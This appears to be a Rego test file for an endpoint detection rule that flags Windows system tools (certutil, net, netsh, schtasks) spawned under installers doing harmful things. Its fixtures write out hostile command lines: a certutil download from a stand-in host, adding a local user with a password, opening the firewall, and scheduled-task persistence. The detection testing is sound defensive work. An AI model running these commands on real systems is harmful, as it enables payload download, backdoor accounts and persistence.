package an0940.signals.system_tool_child_test

import data.an0940.signals.system_tool_child
import data.lib.fixtures_test as fixtures

tool(name) := concat("\\", ["c:\\windows\\system32", name])

held(name, command_line) := told if {
	told := system_tool_child.held with input as fixtures.child(tool(name), command_line)
}

test_certutil_told_to_download_is_an_alert if {
	command_line := "certutil.exe -urlcache -f https://files.orrery.example/s s"
	held("certutil.exe", command_line) == {
		"id": "system_tool_child",
		"title": "System tool told to do harm below the installer",
		"severity": "high",
		"disposition": "alert",
		"excusable": true,
		"missing": [],
		"evidence": {
			"process.image": tool("certutil.exe"),
			"process.command_line": command_line,
			"process.user": "nt authority\\system",
			"parent.image": fixtures.server.image,
			"parent.command_line": fixtures.server.command_line,
			"behaviour": "fetches or decodes a file with certutil",
		},
	}
}

test_harm_is_told_by_a_grandchild_too if {
	document := fixtures.grandchild(tool("net.exe"), "net.exe user helper p4ss /add")
	system_tool_child.held.disposition == "alert" with input as document
}

test_what_an_honest_package_does_now_and_then_is_a_review if {
	told := held("netsh.exe", "netsh advfirewall firewall add rule name=orrery dir=in action=allow")
	[told.disposition, told.severity, told.evidence.behaviour] == ["review", "medium", "opens the firewall"]
}

test_harmless_arguments_are_not_told if {
	not held("net.exe", "net.exe start spooler")
	not held("sc.exe", "sc.exe query orrery")
	not held("regsvr32.exe", "regsvr32.exe /s \"c:\\program files\\orrery\\shell.dll\"")
	not held("schtasks.exe", "schtasks.exe /query /tn orrery")
}

test_tool_without_a_command_line_is_a_review_that_says_what_is_missing if {
	told := system_tool_child.held with input as fixtures.without(fixtures.child(tool("certutil.exe"), "x"), "process", "command_line")
	[told.disposition, told.severity, told.missing, told.evidence.behaviour] == ["review", "medium", ["process.command_line"], "not known"]
}

test_microsofts_update_creating_its_task_is_lowered_to_a_review if {
	told := system_tool_child.held with input as update("schtasks.exe -create -tn microsoft\\windows\\rempl\\shell -xml shell.xml -f")
	[told.disposition, told.severity, told.evidence.behaviour] == ["review", "medium", "creates a scheduled task"]
}

test_a_copied_working_folder_excuses_no_other_task if {
	every command_line in [
		"schtasks.exe -create -tn microsoft\\windows\\rempl\\shell -tr c:\\windows\\temp\\x.exe -sc onlogon -f",
		"schtasks.exe -create -tn microsoft\\windows\\rempl\\shell -xml c:\\users\\public\\x.xml -f",
		"schtasks.exe -create -tn microsoft\\windows\\rempl\\shell -xml ..\\x.xml -f",
		"schtasks.exe -create -tn orrery -xml x.xml -f",
		"schtasks.exe -create -tn microsoft\\windows\\..\\orrery -xml x.xml -f",
		"schtasks.exe -create -tn microsoft\\windows\\a -xml x.xml -f -ru system",
	] {
		system_tool_child.held.disposition == "alert" with input as update(command_line)
	}
}

test_a_word_given_twice_excuses_nothing_and_breaks_nothing if {
	document := update("schtasks.exe -create -tn microsoft\\windows\\a -tn orrery -xml x.xml -f")
	system_tool_child.held.disposition == "alert" with input as document
}

test_tool_outside_an_installers_tree_is_not_told if {
	not system_tool_child.held with input as fixtures.start(fixtures.process(tool("certutil.exe"), "certutil -decode a b", ""), fixtures.explorer, [])
}

update(command_line) := object.union(
	fixtures.start(fixtures.process("c:\\windows\\syswow64\\schtasks.exe", command_line, "descendant"), fixtures.service, [fixtures.services]),
	{"process": {"current_directory": "c:\\program files\\rempl\\"}},
)

test_process_is_told_once_when_it_starts if {
	every kind in ["process_end", "network", "registry"] {
		not system_tool_child.held with input as object.union(fixtures.child(tool("certutil.exe"), "certutil -decode a b"), {"event": {"kind": kind}})
	}
}
